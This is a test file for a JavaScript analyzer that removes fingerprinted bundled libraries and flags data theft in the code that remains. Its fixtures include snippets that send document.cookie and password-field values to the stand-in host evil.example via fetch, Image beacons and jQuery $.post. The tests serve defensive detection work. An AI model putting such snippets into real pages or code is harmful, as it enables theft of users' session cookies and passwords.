import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { parseSource } from "../source/parse-source.ts";
import { MIN_BUNDLE_LENGTH, withoutBundledLibraries } from "./bundled-libraries.ts";
import { type LibraryFingerprints, readFingerprints } from "./fingerprint-list.ts";
import { isModule, normalForm } from "./normal-form.ts";

/** A statement of some library: long enough to be recognized. */
function libraryFunction(name: string, helper: string): string {
	const lines = Array.from(
		{ length: 12 },
		(_, at) => `	if (list[${at}] === undefined) { list[${at}] = ${helper}(list, item, index + ${at}); }`,
	);
	return `function ${name}(list, item, index) {\n${lines.join("\n")}\n	return list;\n}`;
}

const HELPER = "function pick(list, item, index) { return item ? item : index; }";
const LIBRARY = [
	HELPER,
	libraryFunction("spread", "pick"),
	libraryFunction("fill", "spread"),
	libraryFunction("join", "fill"),
];
const MODULE = `${LIBRARY.join("\n")}\nmodule.exports = { spread: spread, fill: fill, join: join };`;
const PADDING = `/*${" ".repeat(MIN_BUNDLE_LENGTH)}*/`;
const STEAL = "fetch('https://evil.example/', { method: 'POST', body: document.cookie });";

/** The digests of everything in some code. */
function known(code: string, packageName = "library"): LibraryFingerprints {
	const read = parseSource({ code });
	if (!read.ok) throw new Error(read.message);
	const { lists } = normalForm(read.source.program, read.source.goal);
	const digests = lists.flatMap((list) => [
		isModule(list) ? list.digest : null,
		...list.statements.map(({ digest }) => digest),
	]);
	return readFingerprints({ [packageName]: digests.filter((digest) => digest !== null).join("") });
}

const FINGERPRINTS = known(`(function (module, exports, require) {${MODULE}\n})`);

function leftOf(code: string): { readonly text: string; readonly packages: readonly string[] } {
	const read = parseSource({ code });
	if (!read.ok) throw new Error(read.message);
	const { text, libraries } = withoutBundledLibraries(read.source, FINGERPRINTS);
	return { text: text.replace(/\s+/g, " ").trim(), packages: libraries.map(({ packageName }) => packageName) };
}

const rate = (code: string) => analyzeScript({ code: `${code}\n${PADDING}` }, { fingerprints: FINGERPRINTS });
const kinds = (code: string): readonly string[] => rate(code).vulnerabilities.map(({ type }) => type);

describe("a module of a known package", () => {
	const bundled = `var modules = { 7: function (e, t, n) {${MODULE.replaceAll("module.", "e.").replace(/\bspread\b/g, "a")}} };`;

	test("is taken out under other names of its variables and parameters", () => {
		const { text, packages } = leftOf(`${bundled.replace("{ a: a", "{ spread: a")} start();`);
		expect(packages).toEqual(["library"]);
		expect(text).toBe("var modules = { 7: function (e, t, n) { } }; start();");
	});

	test("stays when a statement was put into it", () => {
		const { packages } = leftOf(bundled.replace("{ a: a", "{ spread: a").replace("e.exports", `${STEAL} e.exports`));
		expect(packages).not.toContain("module");
		expect(kinds(bundled.replace("e.exports", `${STEAL} e.exports`))).toContain("cookie-exfiltration");
	});
});

describe("statements of a known package", () => {
	test("are taken out, with the small ones that they use", () => {
		expect(leftOf(`(function () {\n${LIBRARY.join("\n")}\nstart(join([], 1, 2));\n})();`).text).toBe(
			"(function () { start(join([], 1, 2)); })();",
		);
	});

	test("stay when one that they use was changed", () => {
		const changed = HELPER.replace("return", "new Image().src = 'https://evil.example/' + item; return");
		const code = `(function () {\n${[changed, ...LIBRARY.slice(1)].join("\n")}\njoin([], document.cookie, 2);\n})();`;
		expect(leftOf(code).packages).toEqual([]);
		expect(kinds(code)).toContain("cookie-exfiltration");
	});

	test.each([
		["is assigned to", "pick = (item) => fetch('https://evil.example/' + item);"],
		["gets a member", "pick.more = (item) => fetch('https://evil.example/' + item);"],
		["is filled", "Object.assign(pick, { more: (item) => fetch('https://evil.example/' + item) });"],
		["is declared twice", "var pick = (item) => fetch('https://evil.example/' + item);"],
	])("stay when a variable that they use %s elsewhere", (_, change) => {
		expect(leftOf(`(function () {\n${LIBRARY.join("\n")}\n${change}\njoin([], 1, 2);\n})();`).packages).toEqual([]);
	});

	test("what the script puts between them is found", () => {
		const [first = "", second = "", ...others] = LIBRARY;
		const code = `(function () {\n${[first, second, `function extra() { ${STEAL} }`, ...others].join("\n")}\njoin([extra], 1, 2);\n})();`;
		expect(leftOf(code).packages.length).toBeGreaterThan(0);
		expect(rate(code)).toMatchObject({ risk_level: "red" });
	});
});

describe("what a script does with a library", () => {
	const within = (use: string) => `(function () {\n${LIBRARY.join("\n")}\n${use}\n})();`;

	test("a function that is passed to it is called with what it gets", () => {
		const use = "join([], document.cookie, (text) => fetch('https://evil.example/', { method: 'POST', body: text }));";
		expect(kinds(within(use))).toContain("cookie-exfiltration");
	});

	test("its result contains what it gets", () => {
		const use = "fetch('https://evil.example/', { method: 'POST', body: join([], document.cookie, 1) });";
		expect(kinds(within(use))).toContain("cookie-exfiltration");
	});

	test("a module may call the functions that it gets with the data that it gets", () => {
		const module = `${LIBRARY.join("\n")}\ntell(join([], data, 1));`;
		const code = `(function (data, tell) {${module}\n})(document.cookie, (text) => fetch("https://evil.example/" + text));`;
		const { vulnerabilities } = analyzeScript(
			{ code: `${code}\n${PADDING}` },
			{ fingerprints: known(`(function (data, tell) {${module}\n})`) },
		);
		expect(vulnerabilities.map(({ type }) => type)).toContain("cookie-exfiltration");
	});

	test("harmless use is harmless", () => {
		expect(rate(within("document.title = 'Sorted';"))).toMatchObject({ risk_level: "green" });
	});
});

describe("jQuery, whose functions the analyzer knows", () => {
	const bundle = (module: string, use: string) =>
		`var modules = { 7: function (module, exports, require) {${module}\n} };
		function load(id) { var made = { exports: {} }; modules[id](made, made.exports, load); return made.exports; }
		var $ = load(7);
		${use}
		${PADDING}`;
	const jQuery = known(`(function (module, exports, require) {${MODULE}\n})`, "jquery");
	const rateBundle = (module: string, use: string) =>
		analyzeScript({ code: bundle(module, use) }, { fingerprints: jQuery });

	test("what a script sends by it is found", () => {
		const use = "$.post('https://evil.example/', { text: document.cookie });";
		expect(rateBundle(MODULE, use)).toMatchObject({ risk_level: "red" });
	});

	test.each([
		["exports", bundle(MODULE, "")],
		["returns", `(function (root, factory) { root.$ = factory(root); })(window, function (module) {${MODULE}\n});`],
	])("what the script reads by the jQuery that a module %s is found", (_, code) => {
		const use = "fetch('https://evil.example/', { method: 'POST', body: $('input[type=password]').val() });";
		const { vulnerabilities } = analyzeScript({ code: `${code}\n${use}\n${PADDING}` }, { fingerprints: jQuery });
		expect(vulnerabilities.map(({ type }) => type)).toContain("password-theft");
	});

	test("harmless use is harmless", () => {
		expect(rateBundle(MODULE, "$('td').addClass('odd');")).toMatchObject({ risk_level: "green" });
	});

	test("one that was changed is evaluated", () => {
		const changed = MODULE.replace("module.exports =", `${STEAL} module.exports =`);
		expect(rateBundle(changed, "$.fill([], 1, 2);")).toMatchObject({ risk_level: "red" });
	});
});

test("the same script has the same rating each time", () => {
	const code = `(function () {\n${LIBRARY.join("\n")}\njoin([], document.cookie, 1);\n})();`;
	expect(rate(code)).toEqual(rate(code));
});
